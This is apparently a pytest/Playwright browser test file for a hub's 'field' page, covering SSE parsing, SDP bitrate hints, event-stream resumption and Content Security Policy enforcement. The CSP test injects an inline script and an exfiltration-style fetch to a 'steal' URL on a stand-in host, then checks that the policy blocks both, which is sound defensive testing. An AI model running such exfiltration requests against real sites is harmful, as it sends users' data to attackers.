"""The field page's own modules and security policy, exercised inside real Chromium."""

from __future__ import annotations

import pytest
from playwright.async_api import Route

from hub.server import HubServer
from tests.browser.conftest import Phone
from tests.browser.field_phone import wait_for_phase

pytestmark = pytest.mark.browser

# Feeds the page's SSE parser awkward chunks: CRLF split across chunks, comments (heartbeats),
# multi-line data, an event without an id (keeps the last id), and a trailing partial message.
SSE_SCRIPT = """async (chunks) => {
    const { SseParser } = await import('/field/sse.js');
    const messages = [];
    let comments = 0;
    const parser = new SseParser((m) => messages.push(m), () => { comments += 1; });
    for (const chunk of chunks) parser.push(chunk);
    return { messages, comments, lastEventId: parser.lastEventId };
}"""


async def test_sse_parser_handles_split_chunks_comments_and_ids(
    hub_server: HubServer, phone: Phone
) -> None:
    page = phone.page
    await page.goto(f"{hub_server.url}/field")
    await wait_for_phase(page, "enrol")
    chunks = [
        ": heartbeat\r",
        "\n",
        'id: 7\r\nevent: request.claimed\r\ndata: {"a":',
        "1}\r\n\r",
        "\n",
        "data: line one\ndata: line two\n\n",
        "id: 9\nevent: request.answered\ndata: {}\n",
        "\n: heartbeat\n\n",
        "id: 10\ndata: not finished",
    ]
    result = await page.evaluate(SSE_SCRIPT, chunks)
    assert result["messages"] == [
        {"id": "7", "event": "request.claimed", "data": '{"a":1}'},
        {"id": "7", "event": "message", "data": "line one\nline two"},
        {"id": "9", "event": "request.answered", "data": "{}"},
    ]
    assert result["comments"] == 2
    assert result["lastEventId"] == "9"
    assert phone.script_errors == []


async def test_content_security_policy_is_enforced(hub_server: HubServer, phone: Phone) -> None:
    page = phone.page
    await page.goto(f"{hub_server.url}/field")
    await wait_for_phase(page, "enrol")
    # Injected markup is what an attacker would try: inline script and exfiltration by fetch().
    verdict = await page.evaluate(
        """async () => {
            const violations = [];
            document.addEventListener('securitypolicyviolation',
                (e) => violations.push(e.effectiveDirective));
            const script = document.createElement('script');
            script.textContent = 'window.inlineRan = true;';
            document.head.appendChild(script);
            let fetchResult;
            try {
                await fetch('http://198.51.100.1/steal', { signal: AbortSignal.timeout(3000) });
                fetchResult = 'allowed';
            } catch (e) { fetchResult = e.name; }
            // Violation events are queued as tasks: poll for them, with a deadline.
            const deadline = Date.now() + 3000;
            while (violations.length < 2 && Date.now() < deadline) {
                await new Promise((resolve) => requestAnimationFrame(resolve));
            }
            return { inlineRan: window.inlineRan === true, fetchResult, violations };
        }"""
    )
    assert verdict["inlineRan"] is False
    assert verdict["fetchResult"] == "TypeError"
    assert "script-src-elem" in verdict["violations"]
    assert "connect-src" in verdict["violations"]
    assert phone.script_errors == []


BITRATE_SCRIPT = """async (sdp) => {
    const { withBitrateHints } = await import('/field/call.js');
    return withBitrateHints(sdp);
}"""


async def test_bitrate_hints_are_added_to_vp8_only(hub_server: HubServer, phone: Phone) -> None:
    page = phone.page
    await page.goto(f"{hub_server.url}/field")
    await wait_for_phase(page, "enrol")
    answer = "\r\n".join(
        [
            "v=0",
            "m=video 9 UDP/TLS/RTP/SAVPF 97 98 99",
            "a=rtpmap:97 VP8/90000",
            "a=rtpmap:98 rtx/90000",
            "a=fmtp:98 apt=97",
            "a=rtpmap:99 H264/90000",
            "a=fmtp:99 packetization-mode=1",
            "",
        ]
    )
    munged = (await page.evaluate(BITRATE_SCRIPT, answer)).split("\r\n")
    hint = "x-google-start-bitrate=1000;x-google-min-bitrate=500;x-google-max-bitrate=1500"
    assert munged[3] == f"a=fmtp:97 {hint}"  # added right after VP8's rtpmap
    assert "a=fmtp:98 apt=97" in munged  # rtx untouched
    assert "a=fmtp:99 packetization-mode=1" in munged  # other codecs untouched
    assert munged[-1] == ""  # still ends with CRLF
    # An existing VP8 fmtp line is extended, not duplicated.
    again = (
        await page.evaluate(
            BITRATE_SCRIPT, answer.replace("a=rtpmap:98", "a=fmtp:97 x=1\r\na=rtpmap:98")
        )
    ).split("\r\n")
    assert [line for line in again if line.startswith("a=fmtp:97")] == [f"a=fmtp:97 x=1;{hint}"]


FOLLOW_SCRIPT = """async () => {
    const { HubClient } = await import('/field/hub.js');
    const client = new HubClient(() => 'dev_test');
    const events = [];
    const stop = new AbortController();
    await new Promise((resolve, reject) => {
        client.followDeviceEvents(7, {
            signal: stop.signal,
            onEvent: (event) => {
                events.push(event.id);
                if (events.length === 2) { stop.abort(); resolve(); }
            },
        }).catch(reject);
    });
    return events;
}"""


async def test_a_position_the_hub_no_longer_has_restarts_from_the_first_event(
    hub_server: HubServer, phone: Phone
) -> None:
    """409 cursor_ahead (the hub's database was restored): the page drops its position and
    follows the request again from its first event, instead of failing the call."""
    page = phone.page
    await page.goto(f"{hub_server.url}/field")
    await wait_for_phase(page, "enrol")
    seen: list[str | None] = []

    async def answer(route: Route) -> None:
        seen.append(await route.request.header_value("last-event-id"))
        if len(seen) == 2:
            await route.fulfill(
                status=409,
                content_type="application/json",
                body='{"error": "cursor_ahead", "detail": "the database was restored"}',
            )
            return
        event_id = 41 if len(seen) == 1 else 5
        await route.fulfill(
            status=200,
            content_type="text/event-stream",
            body=f'id: {event_id}\nevent: request.queued\ndata: {{"id": {event_id}}}\n\n',
        )

    await page.route("**/requests/7/device-events", answer)
    assert await page.evaluate(FOLLOW_SCRIPT) == [41, 5]
    assert seen == [None, "41", None]
    assert phone.script_errors == []
